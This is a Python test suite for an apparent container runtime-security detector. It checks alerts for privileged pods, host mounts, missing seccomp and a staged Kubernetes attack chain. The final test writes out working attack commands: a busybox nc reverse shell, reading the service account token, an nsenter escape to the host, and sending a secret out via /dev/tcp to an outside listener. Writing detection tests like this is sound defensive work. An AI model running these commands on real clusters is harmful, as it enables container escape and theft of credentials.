#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Pods that are given rights over the node when they are made, in a real containerd: each is told, and as
critical right after a token was stolen. Ordinary pods and the cluster's own are not, however many there are.
"""

import concurrent.futures
import unittest

from containerd import UNCONFINED, Containerd
from harness import ROOT
from quiet import SCALE, Quiet
from watched import ELSEWHERE, Watched

PRIVILEGED = "Privileged container started"
NAMESPACES = "Container started in the node's namespaces"
FILES = "Container started with the node's files"
NOT_ROOT = "Privileged container started by a user who is not root"
STOLEN = "Container with rights over the node started after a token was stolen"
UNFILTERED = "Container started without a seccomp filter"
ALL = {PRIVILEGED, NAMESPACES, FILES, NOT_ROOT, STOLEN}

NODE_PID = 2  # NamespaceMode
RUNTIME_DEFAULT = 0  # ProfileType
TOKEN_DIRECTORY = "/var/run/secrets/kubernetes.io/serviceaccount"


class Pods(Watched):
    extra_rules = tuple(ROOT / "rules" / "strict" / name for name in ("00-common.yaml", "containers.yaml"))

    @classmethod
    def setUpClass(cls):
        cls.containerd = Containerd()
        cls.addClassCleanup(cls.containerd.remove)
        # Here nothing may stay unknown, however busy the machine is.
        cls.runtime = ("--host-root", str(cls.containerd.root), "--hold-ms", "10000")
        super().setUpClass()
        secrets = cls.directory / "token-volume"
        secrets.mkdir()
        (secrets / "token").write_text("not-a-token\n")
        cls.token = (str(secrets), TOKEN_DIRECTORY, True)

    def run_pod(self, name, namespace="shop", mounts=(), command=("/bin/sleep", "1000"), privileged=False,
                user=0, seccomp=UNCONFINED, **options):
        """A pod whose container runs the command, until the end of the test; gives the container's id."""
        pod = self.containerd.pod(name, namespace, privileged=privileged, **options)
        container = self.containerd.container(pod, "job", *command, mounts=mounts, privileged=privileged, user=user,
                                              seccomp=seccomp)
        self.addCleanup(self.containerd.remove_pod, pod[0])
        return container

    def expect_pod(self, rule, container, pod):
        alert = self.watch.wait_for(lambda a: a["rule"] == rule and a["container_id"] == container, f"{rule}: {pod}")[0]
        self.assertEqual(alert["uncertain"], [])
        self.assertEqual(alert["pod"]["name"], pod)
        return alert

    def test_rights_over_the_node(self):
        begun = len(self.watch.alerts)
        ordinary = [self.run_pod("web-0", mounts=[self.token, ("/usr/share", "/share", True)]),
                    self.run_pod("proxy-0", "kube-system", privileged=True, mounts=[("/", "/host", False)])]
        privileged = self.run_pod("miner-0", privileged=True)
        self.expect_pod(PRIVILEGED, privileged, "miner-0")
        self.expect_pod(NAMESPACES, self.run_pod("agent-0", pid=NODE_PID), "agent-0")
        disk = self.run_pod("disk-0", mounts=[("/", "/host", True)])
        self.assertIn("mounts=/:/host:", self.expect_pod(FILES, disk, "disk-0")["output"])
        self.expect_pod(NOT_ROOT, self.run_pod("tool-0", privileged=True, user=1000), "tool-0")
        told = [a for a in self.watch.alerts[begun:] if a["rule"] in ALL]
        self.assertEqual([a["output"] for a in told if a["container_id"] in ordinary], [])
        self.assertEqual([a["output"] for a in told if a["container_id"] == privileged and a["rule"] != PRIVILEGED], [])

    def test_seccomp(self):
        filtered = self.run_pod("filtered-0", seccomp=RUNTIME_DEFAULT)
        open_0 = self.run_pod("open-0")
        self.expect_pod(UNFILTERED, open_0, "open-0")
        # Neither the other one, nor a sandbox.
        told = {a["container_id"] for a in self.watch.alerts
                if a["rule"] == UNFILTERED and a["pod"]["name"] in ("filtered-0", "open-0")}
        self.assertEqual(told, {open_0})
        self.assertNotEqual(filtered, open_0)

    def test_with_a_stolen_token(self):
        thief = self.run_pod("web-1", mounts=[self.token], command=(
            "/bin/sh", "-c", f"/bin/busybox cat {TOKEN_DIRECTORY}/token; sleep 1000"))
        read = self.expect_pod("Service account token read by a visitor", thief, "web-1")
        # The namespace of the cluster's own pods does not hide it.
        made = self.run_pod("proxy-1", "kube-system", mounts=[("/", "/host", False)], privileged=True)
        alert = self.expect_pod(STOLEN, made, "proxy-1")
        self.assertEqual(alert["priority"], "Critical")
        self.assertEqual([r["rule"] for r in alert["related"]][0], "Service account in wrong hands")
        self.assertGreater(alert["time"], read["time"])
        self.assertEqual(len(self.watch.matching(lambda a: a["rule"] == STOLEN and a["container_id"] == made)), 1)

    def test_with_the_whole_attack_in_order(self):
        """As in test_scenario.py, by the calls that a kubelet makes: each alert names the pod."""
        node = self.containerd.process.pid  # in whose network the pods are
        kubelet, api, attacker = (self.listener(port, network_of=node) for port in (10250, self.api_server.port, 0))
        victim = self.run_pod("web-2", mounts=[self.token])
        call = "/bin/busybox nc 127.0.0.1 10250 </dev/null; sleep 1000"
        foothold = self.run_pod("blog-2", command=("/bin/sh", "-c", call))
        kubelet.accept()[0].close()
        steps = [self.expect_pod("Kubelet API called from a container", foothold, "blog-2")]

        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            session = pool.submit(self.containerd.exec, victim, "/bin/busybox", "nc", "127.0.0.1", str(attacker.port),
                                  "-e", "/bin/sh")
            try:
                heard, _ = attacker.converse(
                    f"/bin/busybox cat {TOKEN_DIRECTORY}/token; /bin/busybox cp /bin/busybox /bin/kubectl; "
                    f"/bin/kubectl; (/bin/busybox nc 127.0.0.1 {api.port} </dev/null &)")
                api.accept()[0].close()
            except OSError as error:
                raise AssertionError(f"{error!r}; of the session: {session.exception()!r}") from None
        self.assertIn("not-a-token", heard, session.exception())
        for rule in ("Command run in a container after an unexpected kubelet call", "Reverse shell",
                     "Service account token read by a visitor", "Program written into the container executed",
                     "Kubernetes API called by a visitor"):
            steps.append(self.expect_pod(rule, victim, "web-2"))

        secret = self.database()
        elsewhere = self.another_machine(network_of=node)
        send = f"read line <{secret}; exec 3<>/dev/tcp/{ELSEWHERE}/{elsewhere.port}; cat {secret} >&3"
        way_out = f"/bin/busybox nsenter -t {self.service.pid} -m /bin/bash -c '{send}'; sleep 1000"
        made = self.run_pod("proxy-2", "kube-system", privileged=True, pid=NODE_PID, mounts=[("/", "/host", False)],
                            command=("/bin/sh", "-c", way_out))
        with elsewhere.accept()[0] as thief:
            self.assertEqual(thief.recv(4096), secret.read_bytes())
        for rule in (STOLEN, "Container enters other namespaces", "Escaped process opens the node's credentials",
                     "Node's credentials carried off"):
            steps.append(self.expect_pod(rule, made, "proxy-2"))
        times = [step["output_fields"]["evt.time"] for step in steps]
        self.assertEqual(times, sorted(times))


class ManyPods(Quiet):
    @classmethod
    def setUpClass(cls):
        cls.containerd = Containerd()
        cls.addClassCleanup(cls.containerd.remove)
        cls.runtime = ("--host-root", str(cls.containerd.root))
        super().setUpClass()

    def live(self, number):
        """A pod that is made, probed and removed; gives the ids of its containers."""
        pod = self.containerd.pod(f"web-{number}")
        container = self.containerd.container(pod, "job", "/bin/sleep", "1000")
        for probe in (["/bin/true"], ["/bin/sh", "-c", "test -e /tmp || id"]):
            self.assertEqual(self.containerd.exec(container, *probe).exit_code, 0)
        self.containerd.remove_pod(pod[0])
        return pod[0], container

    def test_pods_that_come_and_go(self):
        with concurrent.futures.ThreadPoolExecutor(4) as pool:
            for ids in pool.map(self.live, range(10 * SCALE)):
                self.ours.update(ids)
        self.containerd.add_image("localhost/fetched:v1", ["/bin/sh"], [("/etc/cron.d/job", "/etc/hostname"), (
            "/etc/shadow", "/etc/hostname"), ("/etc/systemd/system/a.service", "/etc/hostname")])


if __name__ == "__main__":
    unittest.main(verbosity=2)
